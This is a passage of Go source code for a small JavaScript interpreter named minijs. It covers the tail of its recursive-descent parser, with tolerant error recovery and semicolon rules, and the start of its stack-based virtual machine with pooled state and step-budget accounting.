	return &SyntaxError{Line: t.Line, Col: t.Col, Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) isPunct(s string) bool {
	t := p.cur()
	return t.Kind == TokPunct && t.Text == s
}

func (p *parser) isKeyword(s string) bool {
	t := p.cur()
	return t.Kind == TokKeyword && t.Text == s
}

func (p *parser) eatPunct(s string) bool {
	if p.isPunct(s) {
		p.advance()
		return true
	}
	return false
}

func (p *parser) expectPunct(s string) error {
	if !p.eatPunct(s) {
		return p.errf("expected %q, found %s", s, p.cur())
	}
	return nil
}

func (p *parser) eatKeyword(s string) bool {
	if p.isKeyword(s) {
		p.advance()
		return true
	}
	return false
}

// eatSemi consumes an optional statement-terminating semicolon. The dialect
// does not implement full ASI; semicolons are optional before '}' and EOF.
func (p *parser) eatSemi() {
	p.eatPunct(";")
}

func (p *parser) parseStmt() (Stmt, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	t := p.cur()
	switch {
	case p.isPunct(";"):
		p.advance()
		return &EmptyStmt{pos{t.Line}}, nil
	case p.isPunct("{"):
		return p.parseBlock()
	case p.isKeyword("var"):
		s, err := p.parseVarDecl()
		if err != nil {
			return nil, err
		}
		p.eatSemi()
		return s, nil
	case p.isKeyword("function"):
		return p.parseFuncDecl()
	case p.isKeyword("if"):
		return p.parseIf()
	case p.isKeyword("while"):
		return p.parseWhile()
	case p.isKeyword("do"):
		return p.parseDoWhile()
	case p.isKeyword("for"):
		return p.parseFor()
	case p.isKeyword("return"):
		p.advance()
		s := &ReturnStmt{pos: pos{t.Line}}
		// Restricted production: a line terminator after `return` inserts
		// the semicolon, so `return\nexpr` returns undefined and the
		// expression becomes its own statement — real JS ASI behaviour.
		if !p.isPunct(";") && !p.isPunct("}") && !p.atEOF() && !p.cur().NewlineBefore {
			v, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			s.Value = v
		}
		p.eatSemi()
		return s, nil
	case p.isKeyword("break"):
		p.advance()
		p.eatSemi()
		return &BreakStmt{pos{t.Line}}, nil
	case p.isKeyword("continue"):
		p.advance()
		p.eatSemi()
		return &ContinueStmt{pos{t.Line}}, nil
	case p.isKeyword("throw"):
		p.advance()
		// Restricted production: `throw\nexpr` is a SyntaxError in real JS
		// (ASI would leave a bare throw). Tolerant mode records the defect
		// and throws the expression anyway, which keeps more of the script
		// observable.
		if p.cur().NewlineBefore {
			err := p.errf("illegal newline after throw")
			if !p.tolerant {
				return nil, err
			}
			p.recordErr(err)
		}
		v, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		p.eatSemi()
		return &ThrowStmt{pos{t.Line}, v}, nil
	case p.isKeyword("try"):
		return p.parseTry()
	case p.isKeyword("switch"):
		return p.parseSwitch()
	}
	// Expression statement.
	x, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	p.eatSemi()
	return &ExprStmt{pos{t.Line}, x}, nil
}

func (p *parser) parseBlock() (*BlockStmt, error) {
	t := p.cur()
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	b := &BlockStmt{pos: pos{t.Line}}
	for !p.isPunct("}") {
		if p.atEOF() {
			if p.tolerant {
				// Recover: a missing '}' closes the block at end of input.
				p.recordErr(p.errf("unterminated block"))
				return b, nil
			}
			return nil, p.errf("unterminated block")
		}
		if p.abort {
			return b, nil
		}
		from := p.i
		s, err := p.parseStmt()
		if err != nil {
			if !p.tolerant {
				return nil, err
			}
			p.recordErr(err)
			p.resync(from)
			continue
		}
		b.Body = append(b.Body, s)
	}
	p.advance() // consume '}'
	return b, nil
}

// parseVarDecl parses `var a = 1, b` without the trailing semicolon.
func (p *parser) parseVarDecl() (*VarDecl, error) {
	t := p.advance() // 'var'
	d := &VarDecl{pos: pos{t.Line}}
	for {
		name := p.cur()
		if name.Kind != TokIdent {
			return nil, p.errf("expected variable name, found %s", name)
		}
		p.advance()
		d.Names = append(d.Names, name.Text)
		if p.eatPunct("=") {
			init, err := p.parseAssign()
			if err != nil {
				return nil, err
			}
			d.Inits = append(d.Inits, init)
		} else {
			d.Inits = append(d.Inits, nil)
		}
		if !p.eatPunct(",") {
			return d, nil
		}
	}
}

func (p *parser) parseFuncDecl() (Stmt, error) {
	t := p.cur()
	fn, err := p.parseFuncLit()
	if err != nil {
		return nil, err
	}
	if fn.Name == "" {
		return nil, p.errf("function declaration requires a name")
	}
	return &FuncDecl{pos{t.Line}, fn.Name, fn}, nil
}

// parseFuncLit parses `function name?(params) { body }` with the `function`
// keyword as the current token.
func (p *parser) parseFuncLit() (*FuncLit, error) {
	t := p.advance() // 'function'
	fn := &FuncLit{pos: pos{t.Line}}
	if p.cur().Kind == TokIdent {
		fn.Name = p.advance().Text
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	for !p.isPunct(")") {
		name := p.cur()
		if name.Kind != TokIdent {
			return nil, p.errf("expected parameter name, found %s", name)
		}
		p.advance()
		fn.Params = append(fn.Params, name.Text)
		if !p.eatPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	bodyStart := p.i
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	fn.Body = body
	for j := bodyStart; j < p.i && j < len(p.toks); j++ {
		if p.toks[j].Kind == TokIdent && p.toks[j].Text == "arguments" {
			fn.UsesArguments = true
			break
		}
	}
	return fn, nil
}

func (p *parser) parseIf() (Stmt, error) {
	t := p.advance() // 'if'
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	then, err := p.parseStmt()
	if err != nil {
		return nil, err
	}
	s := &IfStmt{pos: pos{t.Line}, Cond: cond, Then: then}
	if p.eatKeyword("else") {
		els, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		s.Else = els
	}
	return s, nil
}

func (p *parser) parseWhile() (Stmt, error) {
	t := p.advance() // 'while'
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStmt()
	if err != nil {
		return nil, err
	}
	return &WhileStmt{pos{t.Line}, cond, body}, nil
}

func (p *parser) parseDoWhile() (Stmt, error) {
	t := p.advance() // 'do'
	body, err := p.parseStmt()
	if err != nil {
		return nil, err
	}
	if !p.eatKeyword("while") {
		return nil, p.errf("expected 'while' after do body")
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	p.eatSemi()
	return &DoWhileStmt{pos{t.Line}, body, cond}, nil
}

func (p *parser) parseFor() (Stmt, error) {
	t := p.advance() // 'for'
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}

	// Disambiguate for-in from three-clause for.
	if s, ok, err := p.tryParseForIn(t); err != nil {
		return nil, err
	} else if ok {
		return s, nil
	}

	f := &ForStmt{pos: pos{t.Line}}
	if !p.isPunct(";") {
		if p.isKeyword("var") {
			d, err := p.parseVarDecl()
			if err != nil {
				return nil, err
			}
			f.Init = d
		} else {
			x, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			f.Init = &ExprStmt{pos{t.Line}, x}
		}
	}
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	if !p.isPunct(";") {
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		f.Cond = cond
	}
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	if !p.isPunct(")") {
		post, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		f.Post = post
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStmt()
	if err != nil {
		return nil, err
	}
	f.Body = body
	return f, nil
}

// tryParseForIn attempts `for (var? name in expr) stmt` starting just after
// the '('. It looks ahead without consuming unless the pattern matches.
func (p *parser) tryParseForIn(t Token) (Stmt, bool, error) {
	save := p.i
	decl := false
	if p.isKeyword("var") {
		p.advance()
		decl = true
	}
	if p.cur().Kind != TokIdent {
		p.i = save
		return nil, false, nil
	}
	name := p.advance().Text
	if !p.isKeyword("in") {
		p.i = save
		return nil, false, nil
	}
	p.advance() // 'in'
	obj, err := p.parseExpr()
	if err != nil {
		return nil, false, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, false, err
	}
	body, err := p.parseStmt()
	if err != nil {
		return nil, false, err
	}
	return &ForInStmt{pos{t.Line}, name, decl, obj, body}, true, nil
}

func (p *parser) parseTry() (Stmt, error) {
	t := p.advance() // 'try'
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	s := &TryStmt{pos: pos{t.Line}, Body: body}
	if p.eatKeyword("catch") {
		if err := p.expectPunct("("); err != nil {
			return nil, err
		}
		name := p.cur()
		if name.Kind != TokIdent {
			return nil, p.errf("expected catch parameter, found %s", name)
		}
		p.advance()
		s.CatchName = name.Text
		if err := p.expectPunct(")"); err != nil {
			return nil, err
		}
		catch, err := p.parseBlock()
		if err != nil {
			return nil, err
		}
		s.Catch = catch
	}
	if p.eatKeyword("finally") {
		fin, err := p.parseBlock()
		if err != nil {
			return nil, err
		}
		s.Finally = fin
	}
	if s.Catch == nil && s.Finally == nil {
		return nil, p.errf("try without catch or finally")
	}
	return s, nil
}

func (p *parser) parseSwitch() (Stmt, error) {
	t := p.advance() // 'switch'
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	tag, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	s := &SwitchStmt{pos: pos{t.Line}, Tag: tag}
	sawDefault := false
	for !p.isPunct("}") {
		if p.atEOF() {
			return nil, p.errf("unterminated switch")
		}
		var c SwitchCase
		switch {
		case p.eatKeyword("case"):
			test, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			c.Test = test
		case p.eatKeyword("default"):
			if sawDefault {
				return nil, p.errf("duplicate default clause")
			}
			sawDefault = true
		default:
			return nil, p.errf("expected 'case' or 'default', found %s", p.cur())
		}
		if err := p.expectPunct(":"); err != nil {
			return nil, err
		}
		for !p.isPunct("}") && !p.isKeyword("case") && !p.isKeyword("default") {
			if p.atEOF() {
				if p.tolerant {
					p.recordErr(p.errf("unterminated switch case"))
					s.Cases = append(s.Cases, c)
					return s, nil
				}
				return nil, p.errf("unterminated switch case")
			}
			if p.abort {
				s.Cases = append(s.Cases, c)
				return s, nil
			}
			from := p.i
			stmt, err := p.parseStmt()
			if err != nil {
				if !p.tolerant {
					return nil, err
				}
				p.recordErr(err)
				p.resync(from)
				continue
			}
			c.Body = append(c.Body, stmt)
		}
		s.Cases = append(s.Cases, c)
	}
	p.advance() // '}'
	return s, nil
}

// ---- Expressions (precedence climbing) ----

// parseExpr parses a full expression including the comma operator's absence:
// the dialect treats ',' only as a separator, so parseExpr == parseAssign.
func (p *parser) parseExpr() (Expr, error) { return p.parseAssign() }

func (p *parser) parseAssign() (Expr, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	left, err := p.parseConditional()
	if err != nil {
		return nil, err
	}
	t := p.cur()
	if t.Kind == TokPunct {
		switch t.Text {
		case "=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=":
			if !isAssignable(left) {
				return nil, p.errf("invalid assignment target")
			}
			p.advance()
			right, err := p.parseAssign()
			if err != nil {
				return nil, err
			}
			return &AssignExpr{pos{t.Line}, t.Text, left, right}, nil
		}
	}
	return left, nil
}

func isAssignable(e Expr) bool {
	switch e.(type) {
	case *Ident, *MemberExpr, *IndexExpr:
		return true
	}
	return false
}

func (p *parser) parseConditional() (Expr, error) {
	cond, err := p.parseLogicalOr()
	if err != nil {
		return nil, err
	}
	if !p.isPunct("?") {
		return cond, nil
	}
	t := p.advance()
	then, err := p.parseAssign()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(":"); err != nil {
		return nil, err
	}
	els, err := p.parseAssign()
	if err != nil {
		return nil, err
	}
	return &CondExpr{pos{t.Line}, cond, then, els}, nil
}

func (p *parser) parseLogicalOr() (Expr, error) {
	x, err := p.parseLogicalAnd()
	if err != nil {
		return nil, err
	}
	for p.isPunct("||") {
		t := p.advance()
		y, err := p.parseLogicalAnd()
		if err != nil {
			return nil, err
		}
		x = &LogicalExpr{pos{t.Line}, "||", x, y}
	}
	return x, nil
}

func (p *parser) parseLogicalAnd() (Expr, error) {
	x, err := p.parseBinary(0)
	if err != nil {
		return nil, err
	}
	for p.isPunct("&&") {
		t := p.advance()
		y, err := p.parseBinary(0)
		if err != nil {
			return nil, err
		}
		x = &LogicalExpr{pos{t.Line}, "&&", x, y}
	}
	return x, nil
}

// binary operator precedence levels, lowest first.
var binaryLevels = [][]string{
	{"|"},
	{"^"},
	{"&"},
	{"==", "!=", "===", "!=="},
	{"<", ">", "<=", ">=", "instanceof", "in"},
	{"<<", ">>", ">>>"},
	{"+", "-"},
	{"*", "/", "%"},
}

func (p *parser) parseBinary(level int) (Expr, error) {
	if level >= len(binaryLevels) {
		return p.parseUnary()
	}
	x, err := p.parseBinary(level + 1)
	if err != nil {
		return nil, err
	}
	for {
		t := p.cur()
		matched := ""
		for _, op := range binaryLevels[level] {
			if (t.Kind == TokPunct || t.Kind == TokKeyword) && t.Text == op {
				matched = op
				break
			}
		}
		if matched == "" {
			return x, nil
		}
		p.advance()
		y, err := p.parseBinary(level + 1)
		if err != nil {
			return nil, err
		}
		x = &BinaryExpr{pos{t.Line}, matched, x, y}
	}
}

func (p *parser) parseUnary() (Expr, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	t := p.cur()
	if t.Kind == TokPunct {
		switch t.Text {
		case "-", "+", "!", "~":
			p.advance()
			x, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			return &UnaryExpr{pos{t.Line}, t.Text, x}, nil
		case "++", "--":
			p.advance()
			x, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			if !isAssignable(x) {
				return nil, p.errf("invalid %s target", t.Text)
			}
			return &UpdateExpr{pos{t.Line}, t.Text, x, true}, nil
		}
	}
	if t.Kind == TokKeyword {
		switch t.Text {
		case "typeof", "delete":
			p.advance()
			x, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			return &UnaryExpr{pos{t.Line}, t.Text, x}, nil
		case "new":
			p.advance()
			callee, err := p.parseMemberOnly()
			if err != nil {
				return nil, err
			}
			var args []Expr
			if p.isPunct("(") {
				args, err = p.parseArgs()
				if err != nil {
					return nil, err
				}
			}
			x := Expr(&NewExpr{pos{t.Line}, callee, args})
			return p.parsePostfixOps(x)
		}
	}
	return p.parsePostfix()
}

// parseMemberOnly parses a primary expression followed by member/index
// accesses but not call arguments — the callee of `new`.
func (p *parser) parseMemberOnly() (Expr, error) {
	x, err := p.parsePrimary()
	if err != nil {
		return nil, err
	}
	for {
		t := p.cur()
		switch {
		case p.isPunct("."):
			p.advance()
			name := p.cur()
			if name.Kind != TokIdent && name.Kind != TokKeyword {
				return nil, p.errf("expected property name, found %s", name)
			}
			p.advance()
			x = &MemberExpr{pos{t.Line}, x, name.Text}
		case p.isPunct("["):
			p.advance()
			idx, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			x = &IndexExpr{pos{t.Line}, x, idx}
		default:
			return x, nil
		}
	}
}

func (p *parser) parsePostfix() (Expr, error) {
	x, err := p.parsePrimary()
	if err != nil {
		return nil, err
	}
	return p.parsePostfixOps(x)
}

func (p *parser) parsePostfixOps(x Expr) (Expr, error) {
	for {
		t := p.cur()
		switch {
		case p.isPunct("."):
			p.advance()
			name := p.cur()
			if name.Kind != TokIdent && name.Kind != TokKeyword {
				return nil, p.errf("expected property name, found %s", name)
			}
			p.advance()
			x = &MemberExpr{pos{t.Line}, x, name.Text}
		case p.isPunct("["):
			p.advance()
			idx, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			x = &IndexExpr{pos{t.Line}, x, idx}
		case p.isPunct("("):
			args, err := p.parseArgs()
			if err != nil {
				return nil, err
			}
			x = &CallExpr{pos{t.Line}, x, args}
		case p.isPunct("++") || p.isPunct("--"):
			// Restricted production: a line terminator before ++/-- ends
			// the expression, so `a\n++b` is `a; ++b`, not `a++; b`.
			if t.NewlineBefore {
				return x, nil
			}
			if !isAssignable(x) {
				return x, nil // postfix ++ on non-assignable: leave for caller to fail
			}
			p.advance()
			x = &UpdateExpr{pos{t.Line}, t.Text, x, false}
		default:
			return x, nil
		}
	}
}

func (p *parser) parseArgs() ([]Expr, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var args []Expr
	for !p.isPunct(")") {
		a, err := p.parseAssign()
		if err != nil {
			return nil, err
		}
		args = append(args, a)
		if !p.eatPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	return args, nil
}

func (p *parser) parsePrimary() (Expr, error) {
	t := p.cur()
	switch t.Kind {
	case TokNumber:
		p.advance()
		return &NumberLit{pos{t.Line}, t.Num}, nil
	case TokString:
		p.advance()
		return &StringLit{pos{t.Line}, t.Str}, nil
	case TokIdent:
		p.advance()
		return &Ident{pos{t.Line}, t.Text}, nil
	case TokRegex:
		p.advance()
		// rx is allocated here, at parse time, so that concurrent executions
		// of a shared (cached) AST race only on the sync.Once inside it.
		return &RegexLit{pos: pos{t.Line}, Pattern: t.Text, Flags: t.Str, rx: &compiledRegex{}}, nil
	case TokKeyword:
		switch t.Text {
		case "true":
			p.advance()
			return &BoolLit{pos{t.Line}, true}, nil
		case "false":
			p.advance()
			return &BoolLit{pos{t.Line}, false}, nil
		case "null":
			p.advance()
			return &NullLit{pos{t.Line}}, nil
		case "undefined":
			p.advance()
			return &UndefinedLit{pos{t.Line}}, nil
		case "this":
			p.advance()
			return &ThisExpr{pos{t.Line}}, nil
		case "function":
			return p.parseFuncLit()
		}
	case TokPunct:
		switch t.Text {
		case "(":
			p.advance()
			x, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			return x, nil
		case "[":
			p.advance()
			a := &ArrayLit{pos: pos{t.Line}}
			for !p.isPunct("]") {
				e, err := p.parseAssign()
				if err != nil {
					return nil, err
				}
				a.Elems = append(a.Elems, e)
				if !p.eatPunct(",") {
					break
				}
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			return a, nil
		case "{":
			return p.parseObjectLit()
		}
	}
	return nil, p.errf("unexpected token %s", t)
}

func (p *parser) parseObjectLit() (Expr, error) {
	t := p.advance() // '{'
	o := &ObjectLit{pos: pos{t.Line}}
	for !p.isPunct("}") {
		key := p.cur()
		var name string
		switch key.Kind {
		case TokIdent, TokKeyword:
			name = key.Text
		case TokString:
			name = key.Str
		case TokNumber:
			name = formatNumber(key.Num)
		default:
			return nil, p.errf("invalid object key %s", key)
		}
		p.advance()
		if err := p.expectPunct(":"); err != nil {
			return nil, err
		}
		v, err := p.parseAssign()
		if err != nil {
			return nil, err
		}
		o.Keys = append(o.Keys, name)
		o.Values = append(o.Values, v)
		if !p.eatPunct(",") {
			break
		}
	}
	if err := p.expectPunct("}"); err != nil {
		return nil, err
	}
	return o, nil
}
