package minijs

// vm.go executes compiled chunks on a stack machine. The VM mirrors the
// tree-walker instruction by instruction: identical side-effect order,
// identical error values and lines, and identical step accounting (costs
// attached by the compiler are charged before an instruction runs, exactly
// where eval/execStmt would have called step). FuzzCompileEval holds the two
// engines to that contract.

import (
	"errors"
	"fmt"
	"sync"
)

// machine is pooled per-execution VM state. The value stack is shared by
// nested runChunk calls (each works above its own base), which makes
// script→native→script reentrancy (timers, eval) cheap. Call arguments are
// carved out of the args arena: calls strictly nest, so each opCall claims a
// region and releases it when the call returns, making warm argument passing
// allocation-free.
type machine struct {
	stack      []Value
	completion Value
	// iters holds for-in iterator state. The value stack carries only a
	// kindIter placeholder (for depth bookkeeping and unwind pops); the keys
	// live here so Value stays a small flat struct.
	iters []forInIter
	// args is the call-argument arena; argTop is the high-water mark of
	// claimed slots. len(args) tracks the historical high water so claims
	// rarely append.
	args   []Value
	argTop int
}

var machinePool = sync.Pool{
	New: func() any { return &machine{stack: make([]Value, 0, 64)} },
}

func (m *machine) push(v Value) { m.stack = append(m.stack, v) }

func (m *machine) pop() Value {
	n := len(m.stack) - 1
	v := m.stack[n]
	m.stack[n] = Value{}
	m.stack = m.stack[:n]
	if v.kind == kindIter {
		// The placeholder's iterator state lives on the side stack; drop it
		// in lockstep (loop exits and break/continue unwinds pop here).
		last := len(m.iters) - 1
		m.iters[last] = forInIter{}
		m.iters = m.iters[:last]
	}
	return v
}

func (m *machine) peek() Value { return m.stack[len(m.stack)-1] }

// claimArgs reserves n contiguous slots in the args arena and returns them.
// The returned slice has capacity exactly n, so a callee that appends gets
// its own copy rather than clobbering neighbouring claims.
func (m *machine) claimArgs(n int) []Value {
	base := m.argTop
	need := base + n
	for len(m.args) < need {
		m.args = append(m.args, Value{})
	}
	m.argTop = need
	return m.args[base:need:need]
}

// releaseArgs returns the arena to base, clearing the released region so
// pooled machines don't pin objects between executions.
func (m *machine) releaseArgs(base int) {
	for i := base; i < m.argTop; i++ {
		m.args[i] = Value{}
	}
	m.argTop = base
}

// ensureMachine returns the interpreter's active machine, acquiring one from
// the pool for the outermost invocation. The bool reports whether this call
// acquired it (and must release it when done).
func (in *Interp) ensureMachine() (*machine, bool) {
	if in.vm != nil {
		return in.vm, false
	}
	in.vm = machinePool.Get().(*machine)
	return in.vm, true
}

func (in *Interp) releaseMachine() {
	m := in.vm
	in.vm = nil
	m.completion = Value{}
	m.stack = m.stack[:0]
	for i := range m.iters {
		m.iters[i] = forInIter{}
	}
	m.iters = m.iters[:0]
	for i := range m.args {
		m.args[i] = Value{}
	}
	m.argTop = 0
	machinePool.Put(m)
}

// forInIter is the VM's for-in state. Keys are snapshotted once before the
// first iteration, as the tree-walker does.
type forInIter struct {
	keys []string
	i    int
}

// runProgramVM executes a compiled program chunk in the global scope. The
// completion register plays the tree-walker's `last` role: it is updated
// only by visible expression statements, and is the result whether the
// program runs to the end or stops on a top-level return/break/continue.
func (in *Interp) runProgramVM(prog *Program) (Value, error) {
	m, acquired := in.ensureMachine()
	saved := m.completion
	m.completion = Undefined()
	_, _, err := in.runChunk(prog.code, in.Global)
	res := m.completion
	m.completion = saved
	if acquired {
		in.releaseMachine()
	}
	if err != nil {
		return Undefined(), err
	}
	return res, nil
}

// runChunk executes ch with env as the current scope. It returns the same
// (value, control, error) triple the tree-walker's execBlock produces.
func (in *Interp) runChunk(ch *chunk, env *Env) (Value, ctl, error) {
	m := in.vm
	base := len(m.stack)
	iterBase := len(m.iters)
	defer func() {
		for i := base; i < len(m.stack); i++ {
			m.stack[i] = Value{}
		}
		m.stack = m.stack[:base]
		for i := iterBase; i < len(m.iters); i++ {
			m.iters[i] = forInIter{}
		}
		m.iters = m.iters[:iterBase]
	}()

	code := ch.code
	for pc := 0; pc < len(code); pc++ {
		ins := &code[pc]
		if ins.cost != 0 {
			in.Budget -= int(ins.cost)
			if in.Budget < 0 {
				return Value{}, ctlNone, ErrBudget
			}
		}
		switch ins.op {
		case opCost:
			// charge-only no-op

		case opConst:
			m.push(ch.consts[ins.a])

		case opPop:
			m.pop()

		case opDup:
			m.push(m.peek())

		case opSwap:
			n := len(m.stack)
			m.stack[n-1], m.stack[n-2] = m.stack[n-2], m.stack[n-1]

		case opGetVar:
			v, ok := env.Lookup(ch.atoms[ins.a])
			if !ok {
				return Value{}, ctlNone, &ThrowError{Value: Str("ReferenceError: " + ch.atoms[ins.a] + " is not defined"), Line: int(ins.line)}
			}
			m.push(v)

		case opAssignVar:
			env.Assign(ch.atoms[ins.a], m.pop())

		case opDefine:
			env.Define(ch.atoms[ins.a], m.pop())

		case opThis:
			if v, ok := env.Lookup("this"); ok {
				m.push(v)
			} else {
				m.push(Undefined())
			}

		case opTypeofVar:
			if v, ok := env.Lookup(ch.atoms[ins.a]); ok {
				m.push(Str(TypeOf(v)))
			} else {
				m.push(Str("undefined"))
			}

		case opMakeFunc:
			m.push(in.makeFunction(ch.funcs[ins.a], env).Value())

		case opHoistFunc:
			env.Define(ch.atoms[ins.b], in.makeFunction(ch.funcs[ins.a], env).Value())

		case opMakeArray:
			n := int(ins.a)
			var elems []Value
			if n > 0 {
				elems = make([]Value, n)
				copy(elems, m.stack[len(m.stack)-n:])
				for i := len(m.stack) - n; i < len(m.stack); i++ {
					m.stack[i] = Value{}
				}
				m.stack = m.stack[:len(m.stack)-n]
			}
			m.push(in.NewArray(elems...).Value())

		case opMakeObject:
			ks := ch.keys[ins.a]
			n := len(ks)
			obj := in.NewObject()
			start := len(m.stack) - n
			for i, k := range ks {
				obj.Props[k] = m.stack[start+i]
				m.stack[start+i] = Value{}
			}
			m.stack = m.stack[:start]
			m.push(obj.Value())

		case opMakeRegex:
			m.push(newRegexObject(ch.regexes[ins.a]).Value())

		case opGetMember:
			v, err := in.getMember(m.pop(), ch.atoms[ins.a], int(ins.line))
			if err != nil {
				return Value{}, ctlNone, err
			}
			m.push(v)

		case opSetMember:
			objV := m.pop()
			val := m.pop()
			if err := in.setMemberValue(objV, ch.atoms[ins.a], val, int(ins.line)); err != nil {
				return Value{}, ctlNone, err
			}

		case opDelMember:
			if obj := m.pop().Obj(); obj != nil {
				obj.Delete(ch.atoms[ins.a])
			}
			m.push(Bool(true))

		case opGetIndex:
			idx := m.pop()
			v, err := in.getIndex(m.pop(), idx, int(ins.line))
			if err != nil {
				return Value{}, ctlNone, err
			}
			m.push(v)

		case opSetIndex:
			idx := m.pop()
			objV := m.pop()
			val := m.pop()
			if err := in.setIndexValue(objV, idx, val, int(ins.line)); err != nil {
				return Value{}, ctlNone, err
			}

		case opUnary:
			x := m.pop()
			switch ins.a {
			case unOpNeg:
				m.push(Num(-ToNumber(x)))
			case unOpPlus:
				m.push(Num(ToNumber(x)))
			case unOpNot:
				m.push(Bool(!Truthy(x)))
			case unOpBitNot:
				m.push(Num(float64(^toInt32(x))))
			case unOpTypeof:
				m.push(Str(TypeOf(x)))
			}

		case opBinary:
			y := m.pop()
			x := m.pop()
			v, err := applyBinary(binaryOps[ins.a], x, y, int(ins.line))
			if err != nil {
				return Value{}, ctlNone, err
			}
			m.push(v)

		case opUpdateNum:
			n := ToNumber(m.pop())
			next := n + float64(ins.a)
			if ins.b == 1 {
				m.push(Num(next))
			} else {
				m.push(Num(n))
			}
			m.push(Num(next))

		case opJump:
			pc = int(ins.a) - 1

		case opJumpFalse:
			if !Truthy(m.pop()) {
				pc = int(ins.a) - 1
			}

		case opJumpTrue:
			if Truthy(m.pop()) {
				pc = int(ins.a) - 1
			}

		case opCaseJump:
			t := m.pop()
			if StrictEquals(m.peek(), t) {
				pc = int(ins.a) - 1
			}

		case opCall:
			argc := int(ins.a)
			argBase := m.argTop
			args := m.claimArgs(argc)
			start := len(m.stack) - argc
			copy(args, m.stack[start:])
			for i := start; i < len(m.stack); i++ {
				m.stack[i] = Value{}
			}
			m.stack = m.stack[:start]
			fnV := m.pop()
			thisV := m.pop()
			fn := fnV.Obj()
			if fn == nil || !fn.IsFunction() {
				m.releaseArgs(argBase)
				return Value{}, ctlNone, &ThrowError{Value: Str("TypeError: " + ch.atoms[ins.b] + " is not a function"), Line: int(ins.line)}
			}
			v, err := in.callObject(fn, thisV, args, int(ins.line))
			m.releaseArgs(argBase)
			if err != nil {
				return Value{}, ctlNone, err
			}
			m.push(v)

		case opNew:
			argc := int(ins.a)
			argBase := m.argTop
			args := m.claimArgs(argc)
			start := len(m.stack) - argc
			copy(args, m.stack[start:])
			for i := start; i < len(m.stack); i++ {
				m.stack[i] = Value{}
			}
			m.stack = m.stack[:start]
			fn := m.pop().Obj()
			if fn == nil || !fn.IsFunction() {
				m.releaseArgs(argBase)
				return Value{}, ctlNone, &ThrowError{Value: Str("TypeError: not a constructor"), Line: int(ins.line)}
			}
			this := in.NewObject()
			ret, err := in.callObject(fn, this.Value(), args, int(ins.line))
			m.releaseArgs(argBase)
			if err != nil {
				return Value{}, ctlNone, err
			}
			if obj := ret.Obj(); obj != nil {
				m.push(obj.Value())
			} else {
				m.push(this.Value())
			}

		case opReturn:
			return m.pop(), ctlReturn, nil

		case opThrow:
			return Value{}, ctlNone, &ThrowError{Value: m.pop(), Line: int(ins.line)}

		case opTry:
			v, c, err := in.runTry(&ch.trys[ins.a], ch, env)
			if err != nil {
				return Value{}, ctlNone, err
			}
			switch c {
			case ctlNone:
				// fall through to the jump after opTry
			case ctlReturn:
				return v, ctlReturn, nil
			case ctlBreak:
				td := &ch.trys[ins.a]
				if td.breakPC < 0 {
					return Value{}, ctlBreak, nil
				}
				pc = int(td.breakPC) - 1
			case ctlContinue:
				td := &ch.trys[ins.a]
				if td.contPC < 0 {
					return Value{}, ctlContinue, nil
				}
				pc = int(td.contPC) - 1
			}

		case opBreak:
			return Value{}, ctlBreak, nil

		case opContinue:
			return Value{}, ctlContinue, nil

		case opPushScope:
			env = NewEnv(env)

		case opPopScope:
			env = env.parent

		case opForInInit:
			var it forInIter
			if obj := m.pop().Obj(); obj != nil {
				it.keys = obj.Keys()
			}
			m.iters = append(m.iters, it)
			m.push(Value{kind: kindIter})

		case opForInNext:
			if m.peek().kind != kindIter || len(m.iters) == 0 {
				return Value{}, ctlNone, fmt.Errorf("minijs: vm: corrupt for-in iterator")
			}
			it := &m.iters[len(m.iters)-1]
			if it.i >= len(it.keys) {
				pc = int(ins.a) - 1
			} else {
